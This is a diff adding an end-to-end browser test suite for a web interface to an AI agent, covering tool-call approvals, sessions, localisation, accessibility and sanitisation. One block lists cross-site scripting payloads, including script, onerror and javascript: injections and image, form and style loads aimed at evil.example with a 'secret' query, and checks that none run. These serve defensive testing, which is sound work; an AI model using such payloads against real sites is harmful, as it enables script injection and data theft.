@@ -1,0 +1,428 @@
+import { existsSync, readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import { gzipSync } from 'node:zlib'
+import type { Browser, BrowserContextOptions } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { openBrowser, visit, watch } from './browser.ts'
+import { buildPage, card, ended, folded, type Product, say, startProduct } from './product.ts'
+
+let browser: Browser
+let product: Product
+
+beforeAll(async () => {
+  buildPage()
+  product = await startProduct()
+  browser = await openBrowser()
+})
+
+afterAll(async () => {
+  await browser?.close()
+  await product?.stop()
+})
+
+const open = (path = '/', options: BrowserContextOptions = {}) => visit(browser, product.url + path, options)
+const workspace = (file: string): string => join(product.folder, 'data/workspace', file)
+
+describe('a conversation', () => {
+  test('the first card shows a tool call and an answer, and a reload shows the same', async () => {
+    const { page, problems } = await open()
+    await page.locator('.card').first().click()
+    await ended(page)
+    expect(await page.locator('[data-tool="Bash"]').getAttribute('data-state')).toBe('success')
+    await folded(page)
+    const before = await page.locator('.thread-rows').innerText()
+    expect(before).toContain('README.md')
+    await page.reload()
+    await ended(page)
+    await expect.poll(() => page.locator('.thread-rows').innerText()).toBe(before)
+    expect(problems).toEqual([])
+    await page.context().close()
+  })
+
+  test('an opened card shows command and output, and stays as it was chosen', async () => {
+    const { page } = await open()
+    await say(page, 'run `echo one two three`')
+    await ended(page)
+    await folded(page)
+    await page.locator('[data-tool="Bash"] [data-tw-part="tool-header"]').click()
+    expect(await page.locator('[data-tw-part="terminal"]').innerText()).toContain('one two three')
+    await say(page, 'what time is it')
+    await ended(page, 2)
+    expect(await page.locator('[data-tool="Bash"]').getAttribute('data-open')).toBe('true')
+    await page.context().close()
+  })
+
+  test('stopping ends a run that is under way', async () => {
+    const { page } = await open()
+    await say(page, '/slow 60')
+    await page.locator('[data-tw-part="stop"]').click()
+    await ended(page)
+    expect(await page.locator('[data-tw-part="composer-box"] [data-tw-part="stop"]').count()).toBe(0)
+    await page.context().close()
+  })
+
+  test('a reload in the middle of an answer continues it', async () => {
+    const { page } = await open()
+    await say(page, '/slow 2')
+    await page.locator('[data-tw-part="stop"]').waitFor()
+    await page.reload()
+    await ended(page)
+    expect(await page.locator('[data-role="assistant"] [data-tw-part="text"]').count()).toBeGreaterThan(0)
+    await page.context().close()
+  })
+
+  test('an Enter that belongs to an input method sends nothing', async () => {
+    const { page } = await open()
+    const box = page.locator('[data-tw-part="composer-box"] textarea')
+    await box.fill('你好')
+    await box.evaluate(area => {
+      const press = { key: 'Enter', bubbles: true, cancelable: true }
+      area.dispatchEvent(new KeyboardEvent('keydown', { ...press, isComposing: true }))
+      area.dispatchEvent(new KeyboardEvent('keydown', { ...press, keyCode: 229 }))
+    })
+    expect(await box.inputValue()).toBe('你好')
+    expect(new URL(page.url()).pathname).toBe('/')
+    await box.press('Enter')
+    await page.waitForURL('**/sessions/*')
+    await page.context().close()
+  })
+
+  test('a tool of the page itself runs in the browser', async () => {
+    const { page } = await open('/', { colorScheme: 'light' })
+    await page.locator('.card').nth(2).click()
+    await ended(page)
+    expect(await page.locator('html').getAttribute('data-tw-theme')).toBe('dark')
+    const dark = await page.evaluate(() => getComputedStyle(document.body).backgroundColor)
+    expect(dark).toBe('rgb(22, 24, 28)')
+    await page.context().close()
+  })
+})
+
+describe('approvals', () => {
+  test('allowing once runs the call', async () => {
+    const { page } = await open()
+    await say(page, 'run `touch allowed.txt`')
+    await card(page, 'awaiting_approval').locator('[data-tw-part="allow-once"]').click()
+    await ended(page)
+    expect(existsSync(workspace('allowed.txt'))).toBe(true)
+    await page.context().close()
+  })
+
+  test('denying with a reason runs nothing and shows the reason', async () => {
+    const { page } = await open()
+    await say(page, 'run `touch denied.txt`')
+    const waiting = card(page, 'awaiting_approval')
+    await waiting.locator('[data-tw-part="deny"]').click()
+    await waiting.locator('textarea').fill('not in this folder')
+    await waiting.locator('[data-tw-part="submit"]').click()
+    await ended(page)
+    const denied = card(page, 'denied').and(page.locator('[data-open="false"]'))
+    await denied.locator('[data-tw-part="tool-header"]').click()
+    expect(await card(page, 'denied').locator('[data-tw-part="decision"]').innerText()).toContain(
+      'not in this folder',
+    )
+    expect(existsSync(workspace('denied.txt'))).toBe(false)
+    await page.context().close()
+  })
+
+  test('edited arguments are what runs', async () => {
+    const { page } = await open()
+    await say(page, 'run `touch before-edit.txt`')
+    const waiting = card(page, 'awaiting_approval')
+    await waiting.locator('[data-tw-part="edit"]').click()
+    await waiting.locator('textarea').fill('{"command": nonsense')
+    expect(await waiting.locator('[data-tw-part="submit"]').isDisabled()).toBe(true)
+    await waiting.locator('textarea').fill('{"command": "touch after-edit.txt"}')
+    await waiting.locator('[data-tw-part="submit"]').click()
+    await ended(page)
+    expect(existsSync(workspace('after-edit.txt'))).toBe(true)
+    expect(existsSync(workspace('before-edit.txt'))).toBe(false)
+    await page.context().close()
+  })
+
+  test('a question survives reload and a killed server, and an answer in one tab reaches the other', async () => {
+    const own = await startProduct()
+    try {
+      const { page } = await visit(browser, own.url)
+      await say(page, '/ask')
+      await card(page, 'awaiting_approval').waitFor()
+      await page.reload()
+      await card(page, 'awaiting_approval').waitFor()
+      await own.crash()
+      const other = await page.context().newPage()
+      await other.goto(page.url())
+      await card(other, 'awaiting_approval').locator('[data-tw-part="allow-once"]').click()
+      await ended(other)
+      await ended(page)
+      expect(await card(page, 'success').count()).toBe(1)
+      await page.context().close()
+    } finally {
+      await own.stop()
+    }
+  })
+
+  test('the inbox shows what waits in any session and answers it there', async () => {
+    const { page } = await open()
+    await say(page, 'run `touch from-inbox.txt`')
+    await card(page, 'awaiting_approval').waitFor()
+    await page.goto(`${product.url}/inbox`)
+    const waiting = page.locator('.inbox-session', { hasText: 'from-inbox' })
+    await waiting.locator('[data-tw-part="allow-once"]').click()
+    await expect.poll(() => existsSync(workspace('from-inbox.txt'))).toBe(true)
+    await waiting.waitFor({ state: 'detached' })
+    await page.context().close()
+  })
+})
+
+describe('sessions', () => {
+  test('are found, renamed, forked and deleted', async () => {
+    const { page } = await open()
+    await say(page, 'what time is it')
+    await ended(page)
+    const first = page.url()
+    await page.locator('.title-button').click()
+    await page.locator('.screen-header .rename').fill('Lighthouse')
+    await page.keyboard.press('Enter')
+    const item = page.locator('.session-item', { hasText: 'Lighthouse' })
+    await item.waitFor()
+    await page.locator('#session-search').fill('lighthouse')
+    await expect.poll(() => page.locator('.session-item').count()).toBe(1)
+    await page.locator('[data-tw-part="turn-actions"] [data-tw-part="quiet-button"]').click()
+    await page.waitForURL(url => url.href !== first)
+    await ended(page)
+    await expect.poll(() => page.locator('.session-item').count()).toBe(2)
+    page.on('dialog', dialog => void dialog.accept())
+    await page.locator('.session-item[data-current="true"] .icon-button').click()
+    await page.locator('.menu:popover-open .danger').click()
+    await page.waitForURL(`${product.url}/`)
+    await expect.poll(() => page.locator('.session-item').count()).toBe(1)
+    await page.context().close()
+  })
+
+  test('one that does not exist is told plainly', async () => {
+    const { page } = await open('/sessions/nowhere')
+    expect(await page.locator('.notice').innerText()).toContain('does not exist')
+    await page.context().close()
+  })
+
+  test('their events can be read as another wire sends them', async () => {
+    const { page } = await open()
+    await say(page, 'what time is it')
+    await ended(page)
+    await page.keyboard.press('Control+.')
+    await page.locator('.timeline li').first().waitFor()
+    await page.locator('.trace [role="tab"]').nth(1).click()
+    await page.locator('.event-type', { hasText: 'session.created' }).waitFor()
+    await page.locator('.wire select').selectOption('chat')
+    await page
+      .locator('.event-type', { hasText: 'session_created' })
+      .or(page.locator('.event-type', { hasText: 'system' }))
+      .first()
+      .waitFor()
+    expect(await page.locator('.event-type', { hasText: 'session.created' }).count()).toBe(0)
+    await page.context().close()
+  })
+})
+
+describe('language', () => {
+  test('follows the browser, covers Chinese with the shipped font, and can be changed', async () => {
+    const { page } = await open('/', { locale: 'zh-CN' })
+    await page.locator('.card').first().click()
+    await ended(page)
+    expect(await page.locator('.sidebar').innerText()).toContain('新会话')
+    expect(await page.locator('[data-tw-part="state-words"]').first().innerText()).toBe('完成')
+    await page.evaluate(() => document.fonts.ready)
+    const loaded = await page.evaluate(() =>
+      [...document.fonts].some(font => font.family.includes('Noto Sans SC') && font.status === 'loaded'),
+    )
+    expect(loaded).toBe(true)
+    await page.goto(`${product.url}/settings`)
+    await page.locator('.segments label', { hasText: '繁體中文' }).click()
+    expect(await page.locator('html').getAttribute('lang')).toBe('zh-Hant')
+    expect(await page.locator('h1').innerText()).toBe('設定')
+    await page.context().close()
+  })
+})
+
+/** Attempts to run code, to load something from elsewhere, or to leave the page. */
+const PAYLOADS = [
+  '<script>window.pwned=1</script>',
+  '<img src=x onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1"><circle/></svg>',
+  '[click](javascript:window.pwned=1)',
+  '[click](data:text/html,<script>window.pwned=1</script>)',
+  '![x](https://evil.example/p.png?q=secret)',
+  '![x](javascript:window.pwned=1)',
+  '<iframe src="https://evil.example"></iframe>',
+  '<a href="jav&#x09;ascript:window.pwned=1">x</a>',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
+  '<form action="https://evil.example"><button>go</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '`${window.pwned=1}` <details open ontoggle="window.pwned=1">x</details>',
+]
+
+describe('what models and tools write', () => {
+  test('never runs, loads or leaves', async () => {
+    const { page, problems } = await open()
+    const requests: string[] = []
+    page.on('request', request => requests.push(new URL(request.url()).host))
+    await say(page, '/think')
+    await ended(page)
+    let n = 1
+    for (const payload of PAYLOADS) {
+      await say(page, payload)
+      await ended(page, ++n)
+    }
+    await say(page, `run \`printf '%s' '<img src=x onerror=window.pwned=1>' '\\033[31mred'\``)
+    await page
+      .locator('[data-tw-part="allow-once"]')
+      .or(page.locator('[data-row="end"] >> [data-tw-part="turn-footer"]').nth(n))
+      .first()
+      .waitFor()
+    if (await page.locator('[data-tw-part="allow-once"]').count())
+      await page.locator('[data-tw-part="allow-once"]').click()
+    await ended(page, ++n)
+    await page.locator('[data-tool="Bash"] [data-tw-part="tool-header"]').last().click()
+    for (const link of await page.locator('.thread [data-tw-part="link"]').all())
+      expect(new URL((await link.getAttribute('href')) ?? '').protocol).toMatch(/^https?:$/)
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+    expect(await page.locator('.thread :is(script, iframe, form, style, meta)').count()).toBe(0)
+    expect(await page.locator('.thread img').count()).toBe(0)
+    expect(new Set(requests)).toEqual(new Set([new URL(product.url).host]))
+    expect(new URL(page.url()).host).toBe(new URL(product.url).host)
+    expect(problems).toEqual([])
+    await page.context().close()
+  })
+
+  test('the policy refuses inline code even when something is put into the page', async () => {
+    const { page } = await open()
+    const ran = await page.evaluate(async () => {
+      const script = document.createElement('script')
+      try {
+        script.textContent = 'window.pwned = 1'
+        document.body.append(script)
+        document.body.innerHTML += '<img src=x onerror="window.pwned=1">'
+      } catch {}
+      await new Promise(done => setTimeout(done, 200))
+      return 'pwned' in window
+    })
+    expect(ran).toBe(false)
+    await page.context().close()
+  })
+
+  test('a link names its host, and an image from elsewhere waits for consent', async () => {
+    const { page } = await open()
+    await say(page, 'see [the docs](https://docs.example/a) and ![chart](https://pics.example/c.png)')
+    await ended(page)
+    const answer = page.locator('[data-role="assistant"]')
+    expect(await answer.locator('[data-tw-part="link-host"]').first().innerText()).toBe('docs.example')
+    expect(await answer.locator('[data-tw-part="image-gate"]').first().innerText()).toContain('pics.example')
+    await page.context().close()
+  })
+})
+
+describe('everybody can use it', () => {
+  const axe = readFileSync(fileURLToPath(import.meta.resolve('axe-core/axe.min.js')), 'utf8')
+  const screens: readonly (readonly [string, BrowserContextOptions])[] = [
+    ['light', { colorScheme: 'light' }],
+    ['dark', { colorScheme: 'dark' }],
+    ['phone', { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true }],
+  ]
+  test.each(screens)('no serious problem is found (%s)', async (_name, options) => {
+    // The policy of the page would refuse the checker itself.
+    const { page } = await open('/', { ...options, bypassCSP: true })
+    const found: string[] = []
+    const check = async (screen: string) => {
+      await page.evaluate(axe)
+      const serious = await page.evaluate(async () => {
+        const { axe: checker } = window as unknown as { axe: typeof import('axe-core') }
+        const { violations } = await checker.run(document)
+        return violations
+          .filter(({ impact }) => impact === 'serious' || impact === 'critical')
+          .map(
+            ({ id, nodes }) =>
+              `${id}: ${nodes
+                .map(node => node.html)
+                .slice(0, 3)
+                .join(' ')}`,
+          )
+      })
+      found.push(...serious.map(text => `${screen}: ${text}`))
+    }
+    await page.locator('.card').first().waitFor()
+    await check('home')
+    await say(page, '/markdown')
+    await ended(page)
+    await say(page, '/ask')
+    await card(page, 'awaiting_approval').waitFor()
+    await check('chat')
+    await card(page, 'awaiting_approval').locator('[data-tw-part="deny"]').click()
+    await check('deny')
+    await page.goto(page.url().replace(/(\/trace)?$/, '/trace'))
+    await page.locator('.timeline li').first().waitFor()
+    await check('trace')
+    for (const path of ['inbox', 'tools', 'settings']) {
+      await page.goto(`${product.url}/${path}`)
+      await page.locator('h1').waitFor()
+      await check(path)
+    }
+    expect(found).toEqual([])
+    await page.context().close()
+  })
+
+  test('boundaries are announced, streamed text is not', async () => {
+    const { page } = await open()
+    await say(page, 'what time is it')
+    await ended(page)
+    await say(page, '/ask')
+    await card(page, 'awaiting_approval').waitFor()
+    await expect
+      .poll(() => page.locator('[data-tw-part="announcer"][role="alert"]').innerText())
+      .toContain('needs your approval')
+    expect(await page.locator('.thread').getAttribute('aria-live')).toBe('off')
+    await page.context().close()
+  })
+
+  test('nothing moves for those who asked for it', async () => {
+    const { page } = await open('/', { reducedMotion: 'reduce' })
+    await say(page, '/slow 60')
+    await page.locator('[data-tw-part="stop"]').waitFor()
+    const moving = await page.evaluate(
+      () => document.getAnimations().filter(animation => animation.playState === 'running').length,
+    )
+    expect(moving).toBe(0)
+    await page.locator('[data-tw-part="stop"]').click()
+    await page.context().close()
+  })
+})
+
+test('the first load stays within 200 kB', () => {
+  const dist = fileURLToPath(new URL('../dist', import.meta.url))
+  const html = readFileSync(join(dist, 'index.html'), 'utf8')
+  const first = readdirSync(join(dist, 'assets')).filter(name => html.includes(name))
+  const sizes = [html, ...first.map(name => readFileSync(join(dist, 'assets', name)))].map(
+    body => gzipSync(body).length,
+  )
+  expect(first.length).toBeGreaterThan(1)
+  expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(200_000)
+})
+
+test('two tabs on one session show the same', async () => {
+  const { page } = await open()
+  await say(page, 'list the files')
+  const other = await page.context().newPage()
+  const problems = watch(other)
+  await page.waitForURL('**/sessions/*')
+  await other.goto(page.url())
+  await ended(page)
+  await ended(other)
+  await say(other, 'what time is it')
+  await ended(page, 2)
+  await ended(other, 2)
+  const text = (shown: typeof page) => shown.locator('.thread-rows').innerText()
+  await expect.poll(async () => (await text(page)) === (await text(other))).toBe(true)
+  expect(problems).toEqual([])
+  await page.context().close()
+})
